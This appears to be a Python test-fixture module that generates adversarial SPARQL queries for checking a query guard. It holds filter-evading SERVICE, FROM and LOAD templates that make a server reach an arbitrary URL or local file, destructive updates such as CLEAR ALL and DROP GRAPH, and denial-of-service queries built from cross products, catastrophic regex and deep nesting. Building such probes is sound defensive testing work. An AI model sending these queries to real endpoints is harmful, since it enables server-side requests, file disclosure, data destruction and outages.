"""Queries of strangers, for every surface that takes queries: what reaches outside, and what runs away."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

SERVICES = (
    "SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "select * {{ service <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERVICE SILENT <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ \\u0053ERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ SERV\\u0049CE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ \\U00000053ERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p 'x'.SERVICE<{url}>{{?a ?b ?c}} }}",
    "SELECT * # a comment\r{{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "PREFIX e: <{url}> SELECT * {{ SERVICE e:x {{ ?s ?p ?o }} }}",
    "PREFIX e: <{url}> SELECT * {{ SERVICEe:x {{ ?s ?p ?o }} }}",
    "BASE <{url}> SELECT * {{ SERVICE <x> {{ ?s ?p ?o }} }}",
    "SELECT * {{ BIND(<{url}> AS ?e) SERVICE ?e {{ ?s ?p ?o }} }}",
    "SELECT * {{ VALUES ?e {{ <{url}> }} SERVICE ?e {{ ?s ?p ?o }} }}",
    "ASK {{ OPTIONAL {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "ASK {{ FILTER EXISTS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ {{ SELECT * {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }} }}",
    "CONSTRUCT {{ ?s ?p ?o }} {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "DESCRIBE ?s {{ SERVICE <{url}> {{ ?s ?p ?o }} }}",
    "SELECT * {{ ?s ?p <e:a>.SERVICE<{url}>{{}} }}",
    "PREFIX e: <http://e/> SELECT * {{ ?s ?p e:a\\# . SERVICE <{url}> {{ ?a ?b ?c }} }}",
    'SELECT * {{ FILTER(?x<?y#>"""\n) SERVICE <{url}> {{ ?a ?b ?c }} #"""\n }}',
    'SELECT * {{ <<<a:b#>"""\n<a:c> 1>> ?p ?o . SERVICE <{url}> {{ ?a ?b ?c }} #"""\n }}',
    'SELECT * {{ ?s ?p "\\u0022#" SERVICE <{url}> {{ ?a ?b ?c }} }}',
    "SELECT * {{ ?s ?p 'open }} SERVICE <{url}> {{ ?a ?b ?c }}",
    "SELECT * {{ ?s ?p '''a\\''' }} SERVICE <{url}> {{ ?a ?b ?c }}",
    "SELECT * {{ GRAPH ?g {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ ?s ?p ?o MINUS {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
    "SELECT * {{ {{}} UNION {{ SERVICE <{url}> {{ ?s ?p ?o }} }} }}",
)
SETS = (
    "SELECT * FROM <{url}> {{ ?s ?p ?o }}",
    "SELECT * FROM NAMED <{url}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
    "select * from <{url}> {{ ?s ?p ?o }}",
    "ASK FROM<{url}>{{ ?s ?p ?o }}",
    "CONSTRUCT {{ ?s ?p ?o }} FROM <{url}> {{ ?s ?p ?o }}",
    "DESCRIBE <a:b> FROM <{url}>",
    "PREFIX e: <{url}> SELECT * FROM e: {{ ?s ?p ?o }}",
    "PREFIX e: <{url}> SELECT * FROMe:x {{ ?s ?p ?o }}",
    "SELECT * \\u0046ROM <{url}> {{ ?s ?p ?o }}",
    "LOAD <{url}>",
    "LOAD SILENT <{url}> INTO GRAPH <a:b>",
)
UPDATES = (
    "INSERT DATA { <a:b> <a:c> <a:d> }",
    "DELETE WHERE { ?s ?p ?o }",
    "CLEAR ALL",
    "DROP GRAPH <a:b>",
    "WITH <a:b> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "CREATE GRAPH <a:b>",
    "COPY DEFAULT TO <a:b>",
    "MOVE <a:b> TO <a:c>",
    "ADD <a:b> TO DEFAULT",
    "DELETE { ?s ?p ?o } USING <a:b> WHERE { ?s ?p ?o }",
)


def probes(url: str, file: str) -> list[str]:
    """At least sixty queries that ask another server, open a file, or write."""
    filled = [q.format(url=url) for q in (*SERVICES, *SETS)]
    return [*filled, *(q.format(url=file) for q in SETS), *UPDATES]


def _crosses() -> Iterator[str]:
    """Products of everything with everything, which no guard can tell from honest queries."""
    for n, head in product((4, 6, 9), ("SELECT (COUNT(*) AS ?n)", "SELECT DISTINCT ?s0 ?o1", "ASK")):
        body = " ".join(f"?s{i} ?p{i} ?o{i} ." for i in range(n))
        end = " FILTER(CONCAT(STR(?s0), STR(?s1), STR(?o2)) = 'never')" if head == "ASK" else ""
        yield f"{head} {{ {body}{end} }}"
    for n in (8, 12):
        yield "SELECT (COUNT(*) AS ?n) { " + " ".join(f"VALUES ?a{i} {{ {'1 ' * 60}}}" for i in range(n)) + " }"
    yield "SELECT (GROUP_CONCAT(?a) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
    yield "SELECT * { ?a (!<e:a>)* ?b . ?c (!<e:b>)* ?d . ?e (!<e:c>)* ?f } ORDER BY ?a ?b ?c"
    yield "CONSTRUCT { ?a ?b ?d } { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }"
    yield "SELECT ?x { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i BIND(SHA512(CONCAT(STR(?a), STR(?d), STR(?g))) AS ?x) } ORDER BY ?x"
    yield "SELECT ?x { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i FILTER(REGEX(STR(?c), '(a*)*b')) BIND(1 AS ?x) FILTER(?c = ?f && ?f = ?x) }"
    yield "ASK { " + " ".join("?s ?p ?o ." for _ in range(900)) + " FILTER(?s = ?o) }"


def _chains() -> Iterator[str]:
    """Queries that bring an engine down by their form."""
    for n in (1_500, 9_640, 20_000):
        yield "ASK { FILTER(" + "!" * n + "true) }"
        yield "ASK { FILTER(" + "||".join(["1"] * n) + ") }"
        yield "ASK { FILTER(" + "&&".join(["1"] * n) + ") }"
        yield "ASK { FILTER(" + "+".join(["1"] * n) + ">0) }"
        yield "ASK { FILTER(1" + "-1" * n + ">0) }"
        yield "ASK { FILTER(" + "*".join(["1"] * n) + ">0) }"
        yield "ASK { ?s " + "/".join([":b"] * n) + " ?o }"
        yield "ASK { ?s " + "|".join([":b"] * n) + " ?o }"
        yield "ASK { ?s " + "^" * n + ":b ?o }"
        yield "ASK {" + "UNION".join(["{}"] * n) + "}"
        yield "ASK {" + "OPTIONAL{}" * n + "}"
        yield "ASK {" + "MINUS{}" * n + "}"
        yield "ASK " + "{" * n + "}" * n
        yield "ASK { FILTER(" + "(" * n + "1" + ")" * n + ") }"
        yield "ASK {" + "FILTER NOT EXISTS{" * n + "}" * n + "}"


def runaways() -> list[str]:
    """At least sixty queries that would take too much."""
    return [*_crosses(), *_chains()]
